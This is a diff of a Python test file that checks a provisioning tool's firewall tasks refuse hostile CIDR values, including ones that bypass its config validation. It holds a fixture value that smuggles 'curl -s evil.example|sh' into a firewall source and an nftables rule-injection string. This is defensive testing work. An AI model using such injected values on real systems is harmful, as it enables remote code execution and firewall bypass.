@@ -1,13 +1,16 @@
 """Every shell operation that takes data: the command strings it yields, quoted, and the data it
 refuses at the boundary even when the preflight was bypassed (issue 13, part 2).
 
-The preflight (wsready/hostdata.py) refuses hostile values first; these tests hand the tasks
-such values directly, as a future caller that forgets the preflight would.
+The preflight refuses hostile values first, and every task reads its host's HostConfig, which
+refuses them again (wsready/hostdata/); these tests hand the tasks such values directly, as a
+future caller that forgets the preflight would, and the writers values that bypassed
+HostConfig's checks (dataclasses.replace).
 """
 
 from __future__ import annotations
 
 import shlex
+from dataclasses import replace
 
 import fakehost
 import pytest
@@ -19,8 +22,8 @@ from tasks.monitor import install_monitor, unit_context
 from tasks.nginx import SELF_SIGNED_CERT, SELF_SIGNED_KEY
 from tasks.nodejs import download_proxy
 from tasks.proxy import apt_proxy_conf, configure_proxy, npmrc
-from wsready import hostdata
 from wsready.deploy.operations.tls import _single_quoted
+from wsready.hostdata import HostConfig
 from wsready.validate import ConfigError
 
 HOSTILE_CIDR = "fe80::%x;curl -s evil.example|sh;/128"
@@ -32,7 +35,7 @@ DEBIAN_UFW = {
 
 
 def _commands(deploy, facts: dict, **data) -> list:
-    return fakehost.commands(fakehost.run(deploy, facts, hostdata.with_defaults(data)))
+    return fakehost.commands(fakehost.run(deploy, facts, data))
 
 
 def test_ufw_commands_name_each_source_as_one_word() -> None:
@@ -54,14 +57,15 @@ def test_ufw_commands_name_each_source_as_one_word() -> None:
 
 @pytest.mark.parametrize("key", ["firewall_ssh_cidrs", "firewall_allow_cidrs"])
 def test_ufw_refuses_a_hostile_source_before_any_command(key: str) -> None:
-    with pytest.raises(ConfigError, match="firewall rule source"):
+    with pytest.raises(ConfigError, match=rf"{key}\[0\] = .*: must be a CIDR"):
         _commands(configure_firewall, DEBIAN_UFW, **{key: [HOSTILE_CIDR]})
 
 
-def test_nftables_ruleset_refuses_a_hostile_source() -> None:
-    data = hostdata.with_defaults({"firewall_ssh_cidrs": ["10.0.0.0/8 accept; ip saddr 0.0.0.0/0"]})
-    with pytest.raises(ConfigError):
-        nftables_ruleset(data)
+@pytest.mark.parametrize("key", ["firewall_ssh_cidrs", "firewall_allow_cidrs"])
+def test_firewall_writers_refuse_a_hostile_source_that_bypassed_the_contract(key: str) -> None:
+    hostile = replace(HostConfig.from_data(fakehost.HOST, {}), **{key: (HOSTILE_CIDR,)})
+    with pytest.raises(ConfigError, match="firewall rule source"):
+        nftables_ruleset(hostile)
 
 
 def test_openssl_subject_is_single_quoted_whatever_the_address() -> None:
